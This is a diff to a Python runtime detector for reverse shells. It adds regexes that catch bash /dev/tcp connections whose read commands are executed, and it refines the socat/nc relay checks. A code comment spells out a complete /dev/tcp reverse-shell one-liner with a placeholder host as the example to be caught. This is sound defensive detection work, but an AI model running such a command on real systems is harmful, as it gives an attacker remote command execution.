@@ -45,6 +45,16 @@ TERMINAL_SERVERS = frozenset(
      "gitlab-runner"}
 )  # fmt: skip
 _V = TypeVar("_V")
+DEV_TCP = re.compile(r"/dev/(?:tcp|udp)/([^/\s]+)/(\d+)")
+# /dev/tcp plus commands executed from what it reads: a `while read` loop running its lines, or a shell or eval
+# reading the connection's fd. Port checks (`</dev/tcp/db/5432`) and hand-made HTTP requests (`exec 3<>/dev/tcp/h/80;
+# printf 'GET /...' >&3; cat <&3`) do neither.
+DEV_TCP_SHELL = re.compile(
+    r"^(?=.*?/dev/(?:tcp|udp)/[^/\s]+/\d+)"
+    r"(?=.*?(?:\bwhile\s+read\s+(?:-r\s+)?(\w+)\s*;\s*do\s+(?:eval\s+)?\"?\$\{?\1\b"
+    r"|\b(?:ba|da|z|k|c|tc)?sh\b[^|;&]*<&\s*\d|\beval\b[^|;&]*<&\s*\d))",
+    re.S,
+)
 PORT = re.compile(r"^\d{1,5}$")
 # the processes of one typed pipeline start within milliseconds; slack for a loaded machine
 PIPELINE_WINDOW = 3.0
@@ -114,19 +124,41 @@ class ReverseShellDetector(Detector):
         )
 
     def _relayed(self, p: ProcessInfo, event: RuntimeEvent) -> Iterable[Detection]:
+        if is_shell(p) and DEV_TCP_SHELL.search(p.command_line or ""):
+            # bash's /dev/tcp with the connection on another fd, commands read from it and run:
+            # `exec 5<>/dev/tcp/h/p; cat <&5 | while read line; do $line 2>&5 >&5; done`
+            target = DEV_TCP.search(p.command_line or "")
+            peer = f"{target.group(1)}:{target.group(2)}" if target else "a /dev/tcp peer"
+            return (
+                Detection(
+                    TYPE,
+                    p,
+                    context={"commandLineExample": (p.command_line or "")[:1024]},
+                    key=(peer,),
+                    facts={"peer": peer, "via": "bash's /dev/tcp carries its commands and their output"},
+                    time=event.time,
+                ),
+            )
         if is_shell(p):
             parent = self.ctx.parent(p)
             if parent is not None and is_relay(parent) and RELAY_EXEC.search(parent.command_line or ""):
                 return (self._through(p, parent, event),)
-            if shell_mode(p) == "stdin":
+            if shell_mode(p) == "stdin" and not self._forked(p):
                 relay = self._sibling(p, is_connecting_relay)
                 if relay is not None and self._loop_closed(p, relay):
                     return (self._through(p, relay, event),)
         elif is_connecting_relay(p):
-            shell = self._sibling(p, lambda s: is_shell(s) and shell_mode(s) == "stdin")
+            shell = self._sibling(p, lambda s: is_shell(s) and shell_mode(s) == "stdin" and not self._forked(s))
             if shell is not None and self._loop_closed(shell, p):
                 return (self._through(shell, p, event),)
         return ()
+
+    def _forked(self, shell: ProcessInfo) -> bool:
+        """A subshell (`( ... ) | nc`, `while read` in a pipeline): its parent shell's image, never exec'd."""
+        parent = self.ctx.parent(shell)
+        if parent is None or not is_shell(parent):
+            return False
+        return procfs.forked_from((shell.pid, shell.start_ticks), (parent.pid, parent.start_ticks)) is True
 
     def _loop_closed(self, shell: ProcessInfo, relay: ProcessInfo) -> bool:
         """The pipeline feeds the relay's output back into the shell (through a fifo or a file): the shell does
@@ -150,6 +182,8 @@ class ReverseShellDetector(Detector):
         parent = self.ctx.parent(p)
         if parent is None or is_shell(parent) or any(n in TERMINAL_SERVERS for n in process_names(parent)):
             return ()
+        if is_relay(parent):
+            return ()  # socat/ncat running it: judged by _relayed, one finding per shell
         remote = self._connected_near(parent.uuid, p.start_time)
         if remote is None:
             _remember(self._shells, parent.uuid, [*self._shells.get(parent.uuid, []), p], self.max_tracked)
@@ -189,7 +223,8 @@ class ReverseShellDetector(Detector):
         if parent.uuid in self._servers:
             return ()
         links = procfs.read_fd_links(shell.pid, shell.start_ticks, (0, 1))
-        if links is None or not all((links.get(fd) or "").startswith("pipe:") for fd in (0, 1)):
+        # pipes (java, go, python) or a unix socketpair (node: libuv gives children socketpairs for stdio)
+        if links is None or not all((links.get(fd) or "").startswith(("pipe:", "socket:")) for fd in (0, 1)):
             return ()
         return (
             Detection(
